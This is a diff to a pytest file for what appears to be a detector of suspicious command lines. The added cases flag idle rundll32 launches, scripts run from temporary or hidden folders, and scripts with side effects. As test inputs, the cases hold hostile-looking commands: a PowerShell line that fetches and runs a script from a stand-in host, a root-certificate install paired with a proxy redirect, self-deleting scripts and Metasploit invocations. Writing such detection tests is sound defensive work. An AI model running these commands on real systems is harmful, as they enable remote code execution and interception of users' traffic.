@@ -20,6 +20,7 @@ REVERSE = "parent_reverse_shell"
 FETCHED = "parent_script_fetched"
 HIDDEN = "parent_hidden_encoded"
 PLACE = "parent_script_place"
+IDLE = "parent_without_work"
 TOOL = "parent_fake_tool"
 
 
@@ -62,6 +63,16 @@ TOOL = "parent_fake_tool"
         ("cmd /c C:\\Users\\mia\\Downloads\\build.bat", []),  # a developer's place too
         ("/usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1.2/AnsiballZ_command.py", []),
         ("C:\\tools\\app.exe C:\\Users\\Public\\run.bat", []),
+        ("javaw.exe -jar C:\\Users\\Public\\a.jar", [PLACE]),
+        ("bash /tmp/.i/postinstall", [PLACE]),
+        ("bash /dev/shm/run", [PLACE]),
+        ("bash /tmp/postinstall", []),
+        ("bash /usr/local/bin/deploy", []),
+        # started for nothing
+        ("rundll32.exe", [IDLE]),
+        ('"C:\\Windows\\SysWOW64\\dllhost.exe"', [IDLE]),
+        ("rundll32.exe shell32.dll,Control_RunDLL", []),
+        ("C:\\lab\\rundll32.exe", []),
         # tools of attackers behind their interpreter
         ("ruby /usr/bin/msfvenom -x a.apk -o b.apk", [TOOL]),
         ("/opt/metasploit/msfconsole -q", [TOOL]),
@@ -104,3 +115,25 @@ def test_only_a_shell_is_somebodys_hand() -> None:
 def test_long_lines_take_linear_time() -> None:
     assert found("curl " * 1_600 + "wget | x") == {}
     assert found("iex " * 20_000) == {}
+
+
+@pytest.mark.parametrize(
+    ("text", "trusts", "indicators"),
+    [
+        ("IEX (iwr http://h.example/a.ps1); certutil -addstore root a.cer", True, [FETCHED]),
+        ("certutil -addstore root a.cer; Set-ItemProperty $k ProxyServer '127.0.0.1:8080'", True, ["proxy_set"]),
+        ("security add-trusted-cert a.pem && networksetup -setsecurewebproxy Wi-Fi 127.0.0.1 80", True, ["proxy_set"]),
+        ("netsh winhttp set proxy 10.0.0.1:80", True, ["proxy_set"]),
+        ("netsh winhttp set proxy 10.0.0.1:80", False, []),
+        ("netsh winhttp show proxy", True, []),
+        ("certutil -addstore root a.cer; Remove-Item $PSCommandPath -Force", True, ["script_deletes_itself"]),
+        ('certutil -addstore root a.cer & del "%~f0"', True, ["script_deletes_itself"]),
+        ("certutil -addstore root a.cer; Remove-Item a.cer", True, []),
+    ],
+)
+def test_what_a_script_does_beside(text: str, trusts: bool, indicators: list[str]) -> None:
+    report = Report()
+    if trusts:
+        report.flags.add("TrustedStoreTarget")
+    starters.judge_text(report, text)
+    assert [finding.indicator for finding in report.findings] == indicators
